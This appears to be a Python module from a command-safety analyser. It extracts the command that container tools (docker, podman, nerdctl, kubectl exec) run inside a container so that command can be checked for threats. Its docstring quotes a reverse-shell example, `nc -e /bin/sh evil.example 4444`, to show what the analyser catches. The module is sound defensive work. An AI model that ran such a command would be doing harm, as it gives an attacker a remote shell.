"""The command a container tool runs: `docker run [options] IMAGE CMD...`, `docker exec [options]
CONTAINER CMD...`, the same for podman and nerdctl, and `kubectl exec POD -- CMD...`.

The shell analyser sees `docker` as the program and the container's command as its arguments,
so `docker run --rm alpine sh -c 'nc -e /bin/sh evil.example 4444'` read as an ordinary
`docker` call. The engine analyses the inner command for what does not depend on whose
filesystem it runs in: a reverse shell, a download or decoded text run by an interpreter, a
secret sent out, a metadata endpoint. Paths inside the container are the container's own, so
they are not judged as host paths (mounts are: `-v ~/.ssh:/k` names a host path and is checked
where it is written).

Option parsing is one pass over the words with a table of the options that take a value;
an unknown `--long` option is assumed to take none unless written `--opt=value`.
"""

from __future__ import annotations

__all__ = ["container_command"]

_ENGINES = frozenset({"docker", "podman", "nerdctl"})
# `docker run`/`create`/`exec` options that take a separate value (short and long forms).
_VALUE_OPTS = frozenset(
    {
        "-a", "--attach", "--add-host", "--annotation", "--blkio-weight", "--cap-add",
        "--cap-drop", "--cgroup-parent", "--cgroupns", "--cidfile", "--cpu-period",
        "--cpu-quota", "--cpu-shares", "-c", "--cpus", "--cpuset-cpus", "--cpuset-mems",
        "--device", "--device-cgroup-rule", "--dns", "--dns-option", "--dns-search",
        "--domainname", "--entrypoint", "-e", "--env", "--env-file", "--expose", "--gpus",
        "--group-add", "--health-cmd", "--health-interval", "--health-retries",
        "--health-start-period", "--health-timeout", "-h", "--hostname", "--ip", "--ip6",
        "--ipc", "--isolation", "--kernel-memory", "-l", "--label", "--label-file", "--link",
        "--log-driver", "--log-opt", "--mac-address", "-m", "--memory", "--memory-reservation",
        "--memory-swap", "--memory-swappiness", "--mount", "--name", "--network", "--net",
        "--network-alias", "--oom-score-adj", "--pid", "--pids-limit", "--platform", "-p",
        "--publish", "--pull", "--restart", "--runtime", "--security-opt", "--shm-size",
        "--stop-signal", "--stop-timeout", "--storage-opt", "--sysctl", "--tmpfs", "-u",
        "--user", "--ulimit", "--userns", "--uts", "-v", "--volume", "--volume-driver",
        "--volumes-from", "-w", "--workdir", "--detach-keys", "--secret", "--arch", "--os",
    }
)  # fmt: skip
_KUBECTL_VALUE_OPTS = frozenset(
    {"-c", "--container", "-n", "--namespace", "--context", "--cluster", "--kubeconfig",
     "--user", "-f", "--filename", "--pod-running-timeout", "-s", "--server", "--token"}
)  # fmt: skip
_MAX_WORDS = 256


def container_command(argv: tuple[str, ...] | list[str]) -> tuple[str, ...] | None:
    """The argv of the command a container tool runs inside the container, or None when
    `argv` runs no command there (or names no container tool)."""
    if not argv or len(argv) > _MAX_WORDS:
        return None
    name = argv[0].rsplit("/", 1)[-1].lower()
    if name in _ENGINES:
        return _engine_command(argv[1:])
    if name in ("kubectl", "oc"):
        return _kubectl_command(argv[1:])
    return None


def _engine_command(args: tuple[str, ...] | list[str]) -> tuple[str, ...] | None:
    index = 0
    # The engine's own options come before the verb (`docker --context x run ...`).
    while index < len(args) and args[index].startswith("-"):
        index += 2 if args[index] in ("--context", "-H", "--host", "--config", "-c") else 1
    if index < len(args) and args[index] == "container":
        index += 1  # `docker container run ...`
    if index >= len(args) or args[index] not in ("run", "exec", "create"):
        return None
    index += 1
    index = _skip_options(args, index, _VALUE_OPTS)
    index += 1  # the image (run, create) or the container (exec)
    inner = tuple(args[index:])
    return inner or None


def _kubectl_command(args: tuple[str, ...] | list[str]) -> tuple[str, ...] | None:
    if "exec" not in args or "--" not in args:
        return None  # `kubectl exec POD CMD` without `--` is deprecated; not guessed
    cut = list(args).index("--")
    if "exec" not in args[:cut]:
        return None
    inner = tuple(args[cut + 1 :])
    return inner or None


def _skip_options(args: tuple[str, ...] | list[str], index: int, valued: frozenset[str]) -> int:
    """The index of the first word after the options starting at `index`."""
    while index < len(args):
        word = args[index]
        if word == "--":
            return index + 1
        if not word.startswith("-") or word == "-":
            return index
        if "=" in word or word not in valued:
            index += 1  # `--opt=value`, or a flag (`--rm`, `-it`)
        else:
            index += 2
    return index
